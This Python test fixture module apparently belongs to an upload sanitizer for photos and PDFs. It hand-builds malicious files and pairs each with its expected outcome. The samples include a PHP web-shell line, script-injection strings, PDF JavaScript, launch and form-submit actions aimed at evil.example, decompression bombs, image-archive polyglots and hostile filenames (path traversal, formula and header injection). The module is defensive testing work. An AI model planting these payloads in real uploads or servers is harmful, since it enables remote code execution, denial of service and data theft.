"""Files that do not mean well, made by hand: what should become of each stands beside it.

What is taken must lose whatever stands in ``MARKS``.
"""

import io
import struct
import zipfile
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import ExifTags, Image, ImageCms, PngImagePlugin

SCRIPT = b"<script>alert(1)</script>"
PHP = b"<?php system($_GET[0]); ?>"
MARKS = (b"<script", b"<?php", b"PK\x03\x04", b"PK\x05\x06", b"MZ\x90", b"RAHASIA", b"Exif",
         b"xpacket", b"JavaScript", b"/JS", b"/Launch", b"/EmbeddedFile", b"/OpenAction", b"/AA",
         b"/XFA", b"/URI", b"/SubmitForm", b"/GoToR", b"/RichMedia", b"/Metadata",
         b"alert(", b"calc.exe")
NOT_A_PAPER, DAMAGED, TOO_LARGE = "bukan foto atau PDF", "rusak", "terlalu besar"
HEAVY, LOCKED, PAGES, EMPTY = "terlalu berat", "dikunci", "1 sampai 200 halaman", "kosong"


def picture(kind="JPEG", mode="RGB", size=(60, 40), **more):
    """A picture's bytes."""
    out = io.BytesIO()
    Image.new(mode, size, more.pop("colour", 0)).save(out, kind, **more)
    return out.getvalue()


def archive(name="Jahat.class", body=b"\xca\xfe\xba\xbe RAHASIA"):
    """A ZIP, as JAR, APK and office documents are."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr(name, body)
    return out.getvalue()


def pdf_with(change, **how):
    """A PDF of one page, after ``change(pdf, page)``."""
    pdf = pikepdf.new()
    change(pdf, pdf.add_blank_page(page_size=(200, 200)).obj)
    out = io.BytesIO()
    pdf.save(out, **how)
    return out.getvalue()


def action(pdf, **what):
    """An action that runs a script, unless it is said."""
    return pdf.make_indirect(Dictionary(**(what or {"S": Name.JavaScript,
                                                    "JS": String("app.alert(1)")})))


def annotation(pdf, page, **what):
    """A link all over the page."""
    page.Annots = Array([pdf.make_indirect(Dictionary(
        Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 200, 200], **what))])


def open_action(pdf, page):
    pdf.Root.OpenAction = action(pdf)
    page.AA = Dictionary(O=action(pdf))


def launch(pdf, page):
    annotation(pdf, page, A=action(pdf, S=Name.Launch, F=String("calc.exe")))


def address(pdf, page):
    annotation(pdf, page, A=action(pdf, S=Name.URI, URI=String("http://evil.example")))


def submit(pdf, page):
    annotation(pdf, page, A=action(pdf, S=Name.SubmitForm, F=String("http://evil.example")))


def elsewhere(pdf, page):
    annotation(pdf, page, A=action(pdf, S=Name.GoToR, F=String("//evil/share")))


def attached(pdf, page):
    pdf.attachments["jahat.exe"] = b"MZ\x90 RAHASIA"


def named_scripts(pdf, page):
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("x"), action(pdf)])))


def xfa(pdf, page):
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_stream(SCRIPT))


def rich_media(pdf, page):
    page.Annots = Array([pdf.make_indirect(Dictionary(
        Type=Name.Annot, Subtype=Name.RichMedia, Rect=[0, 0, 9, 9],
        RichMediaContent=Dictionary(Assets=pdf.make_stream(b"RAHASIA"))))])


def hidden_deep(pdf, page):
    page.Resources = Dictionary(Properties=Dictionary(MC0=Dictionary(
        X=Array([Dictionary(JS=String("app.alert(1)"), AA=Dictionary(O=action(pdf)))]))))


def metadata(pdf, page):
    pdf.docinfo["/Author"] = String("RAHASIA")
    page.PieceInfo = Dictionary(X=String("RAHASIA"))
    pdf.Root.Metadata = pdf.make_stream(b"<?xpacket begin?>RAHASIA", Type=Name.Metadata,
                                        Subtype=Name.XML)


def photograph_inside(packed):
    """A picture with the place it was taken at, drawn on the page."""
    def change(pdf, page):
        body, filters = picture(exif=place(), comment=b"RAHASIA"), Name.DCTDecode
        if packed:
            body, filters = zlib.compress(body), Array([Name.FlateDecode, Name.DCTDecode])
        page.Resources = Dictionary(XObject=Dictionary(Im0=pdf.make_stream(
            body, Type=Name.XObject, Subtype=Name.Image, Width=60, Height=40,
            ColorSpace=Name.DeviceRGB, BitsPerComponent=8, Filter=filters)))
        page.Contents = pdf.make_stream(b"q 200 0 0 200 0 0 cm /Im0 Do Q")
    return change


def bomb(mebibytes, *filters):
    """A page whose drawing unpacks to so much."""
    packer = zlib.compressobj(9)
    body = b"".join(packer.compress(b" " * (1 << 20)) for _ in range(mebibytes)) + packer.flush()

    def change(pdf, page):
        packed = zlib.compress(body) if len(filters) > 1 else body
        page.Contents = pdf.make_stream(packed, Filter=Array([Name.FlateDecode, *filters[1:]]))
    return pdf_with(change, compress_streams=False,
                    stream_decode_level=pikepdf.StreamDecodeLevel.none)


def endless_picture(pdf, page):
    page.Resources = Dictionary(XObject=Dictionary(Im0=pdf.make_stream(
        b"\0" * 99, Type=Name.XObject, Subtype=Name.Image, Width=90_000, Height=90_000,
        ColorSpace=Name.DeviceGray, BitsPerComponent=1, Filter=Name.CCITTFaxDecode)))


def many_pages():
    """Three thousand pages."""
    pdf = pikepdf.new()
    page = pdf.add_blank_page(page_size=(9, 9))
    for _ in range(2999):
        pdf.pages.append(page)
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def by_hand(*objects, root=b"1 0 R"):
    """A PDF of these objects, as no library would write it."""
    body = b"%PDF-1.7\n" + b"".join(b"%d 0 obj\n%s\nendobj\n" % (number, one)
                                    for number, one in enumerate(objects, 1))
    return body + b"trailer\n<< /Root %s >>\nstartxref\n0\n%%%%EOF\n" % root


def locked():
    """A PDF that wants a password."""
    lock = pikepdf.Encryption(owner="a", user="b")
    return pdf_with(lambda pdf, page: None, encryption=lock)


def place():
    """What a phone notes beside a picture: where, with what, turned how."""
    exif = Image.Exif()
    exif[ExifTags.Base.Make], exif[ExifTags.Base.Orientation] = "RAHASIA", 3
    exif.get_ifd(ExifTags.IFD.GPSInfo)[ExifTags.GPS.GPSLatitudeRef] = "S"
    return exif


def chunk(kind, body):
    """A chunk of a PNG."""
    return struct.pack(">I", len(body)) + kind + body + struct.pack(
        ">I", zlib.crc32(kind + body))


def with_chunks(*chunks, then=b""):
    """A PNG with more in it than a picture, and something after its end."""
    plain = picture("PNG")
    return plain[:33] + b"".join(chunks) + plain[33:] + then


def png_bomb(width, height):
    """A PNG that says it is so large, with nothing but zeros."""
    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(
        b"IDAT", zlib.compress(b"\0" * 1_000_000, 9)) + chunk(b"IEND", b"")


def moving(kind):
    """Three pictures one after another."""
    frames = [Image.new("RGB", (20, 20), colour) for colour in ("red", "green", "blue")]
    out = io.BytesIO()
    frames[0].save(out, kind, save_all=True, append_images=frames[1:], duration=100)
    return out.getvalue()


def tagged_png():
    tags = PngImagePlugin.PngInfo()
    tags.add_text("Comment", PHP.decode())
    tags.add_itxt("XML:com.adobe.xmp", "<?xpacket begin?>RAHASIA", zip=True)
    return picture("PNG", pnginfo=tags, exif=place())


PROFILE = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
HTML = b"<!doctype html><title>x</title>" + SCRIPT
SVG = b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>"
HEIC = b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\0" * 200

# name of the file: (its bytes or what makes them, part of the sentence)
REFUSED = {
    "program.exe": (b"MZ\x90\0" + b"\0" * 400, NOT_A_PAPER),
    "program-sebagai.pdf": (b"MZ\x90\0" + b"\0" * 400, NOT_A_PAPER),
    "halaman.html": (HTML, NOT_A_PAPER),
    "halaman-sebagai.jpg": (HTML, NOT_A_PAPER),
    "gambar.svg": (SVG, NOT_A_PAPER),
    "gambar-sebagai.jpg": (SVG, NOT_A_PAPER),
    "kosong.jpg": (b"", EMPTY),
    "arsip.zip": (archive, NOT_A_PAPER),
    "surat.docx.pdf": (lambda: archive("word/document.xml"), NOT_A_PAPER),
    "arsip-bom.png": (lambda: archive("a", b"\0" * 5_000_000), NOT_A_PAPER),
    "gifar.gif": (lambda: picture("GIF", "P") + archive(), NOT_A_PAPER),
    "bergerak.gif": (lambda: moving("GIF"), NOT_A_PAPER),
    "faks.tiff": (lambda: picture("TIFF"), NOT_A_PAPER),
    "lukisan.bmp": (lambda: picture("BMP"), NOT_A_PAPER),
    "foto.webp": (lambda: picture("WEBP"), NOT_A_PAPER),
    "iphone.heic": (HEIC, NOT_A_PAPER),
    "cetak.ps.pdf": (b"%!PS-Adobe-3.0\n(RAHASIA) show", NOT_A_PAPER),
    "html-lalu-pdf.pdf": (lambda: HTML + pdf_with(open_action), NOT_A_PAPER),
    "terpotong.jpg": (lambda: picture(size=(900, 900))[:3000], DAMAGED),
    "kepala-saja.jpg": (b"\xff\xd8\xff\xe0" + b"\0" * 900, DAMAGED),
    "terpotong.png": (lambda: picture("PNG", size=(900, 900))[:300], DAMAGED),
    "seratus-megapiksel.jpg": (lambda: picture(mode="L", size=(10_000, 10_000)), TOO_LARGE),
    "bom.png": (lambda: png_bomb(20_000, 20_000), TOO_LARGE),
    "bom-tersembunyi.png": (lambda: with_chunks(chunk(
        b"zTXt", b"a\0\0" + zlib.compress(b"\0" * 90_000_000, 9))), DAMAGED),
    "kunci.pdf": (locked, LOCKED),
    "rusak.pdf": (b"%PDF-1.7\n" + b"\xde\xad" * 400, DAMAGED),
    "tebal.pdf": (many_pages, PAGES),
    "tanpa-halaman.pdf": (by_hand(b"<< /Type /Catalog /Pages 2 0 R >>",
                                  b"<< /Type /Pages /Kids [] /Count 0 >>"), DAMAGED),
    "melingkar.pdf": (by_hand(b"<< /Type /Catalog /Pages 2 0 R >>",
                              b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"), DAMAGED),
    "dalam.pdf": (by_hand(b"<< /Type /Catalog /Pages 2 0 R >>",
                          b"[" * 50_000 + b"]" * 50_000), DAMAGED),
    "bom.pdf": (lambda: bomb(200), HEAVY),
    "bom-ganda.pdf": (lambda: bomb(200, Name.FlateDecode, Name.FlateDecode), HEAVY),
    "gambar-tak-berujung.pdf": (lambda: pdf_with(endless_picture), HEAVY),
}
# name of the file: (its bytes or what makes them, the ending it is kept with)
TAKEN = {
    "lokasi.jpg": (lambda: picture(exif=place(), comment=b"RAHASIA", icc_profile=PROFILE,
                                   xmp=b"<?xpacket begin?>RAHASIA"), "jpg"),
    "skrip.jpg": (lambda: picture(comment=SCRIPT) + HTML, "jpg"),
    "jar.jpg": (lambda: picture() + archive(), "jpg"),
    "empat-warna.jpg": (lambda: picture(mode="CMYK"), "jpg"),
    "bertahap.jpg": (lambda: picture(mode="L", progressive=True), "jpg"),
    "php.png": (lambda: with_chunks(chunk(b"tEXt", b"Comment\0" + PHP), then=PHP), "png"),
    "arsip.png": (lambda: with_chunks(chunk(b"puNk", b"RAHASIA"), then=archive()), "png"),
    "tanda.png": (tagged_png, "png"),
    "bergerak.png": (lambda: moving("PNG"), "png"),
    "tembus-pandang.png": (lambda: picture("PNG", "RGBA"), "png"),
    "pdf-sebagai.jpg": (lambda: pdf_with(metadata), "pdf"),
    "jpg-sebagai.pdf": (picture, "jpg"),
    "arsip.pdf": (lambda: pdf_with(attached) + archive(), "pdf"),
    "halaman.pdf": (lambda: pdf_with(open_action).replace(b"\n", b"\n%" + HTML + b"\n", 1), "pdf"),
    "buka.pdf": (lambda: pdf_with(open_action), "pdf"),
    "jalankan.pdf": (lambda: pdf_with(launch), "pdf"),
    "alamat.pdf": (lambda: pdf_with(address), "pdf"),
    "kirim.pdf": (lambda: pdf_with(submit), "pdf"),
    "tempat-lain.pdf": (lambda: pdf_with(elsewhere), "pdf"),
    "lampiran.pdf": (lambda: pdf_with(attached), "pdf"),
    "skrip-bernama.pdf": (lambda: pdf_with(named_scripts), "pdf"),
    "xfa.pdf": (lambda: pdf_with(xfa), "pdf"),
    "media.pdf": (lambda: pdf_with(rich_media), "pdf"),
    "tersembunyi.pdf": (lambda: pdf_with(hidden_deep), "pdf"),
    "keterangan.pdf": (lambda: pdf_with(metadata), "pdf"),
    "foto.pdf": (lambda: pdf_with(photograph_inside(packed=False)), "pdf"),
    "foto-terbungkus.pdf": (lambda: pdf_with(photograph_inside(packed=True)), "pdf"),
}
# what the browser says the file is called: what it is called from then on
NAMES = {
    "../../etc/passwd.png": "passwd.png",
    "C:/Users/Siti/ktp.png": "ktp.png",
    "ktp\0.php.png": "ktp.php.png",
    "ktp\u202egpj.exe": "ktpgpj.png",
    "k" * 300 + ".png": "k" * 80 + ".png",
    "=1+cmd|calc!A0.png": "=1+cmd|calc!A0.png",
    "ktp%0D%0ASet-Cookie: a=b.png": "ktp%0D%0ASet-Cookie: a=b.png",     # as browsers send it
    "ktp\tsaya\u2028\x1b[31m.png": "ktp saya[31m.png",
    "<img src=x onerror=alert(1)>.png": "<img src=x onerror=alert(1)>.png",
    "kartu keluarga 👪.png": "kartu keluarga 👪.png",
    ".png": "berkas.png",
    "..": "berkas.png",
}
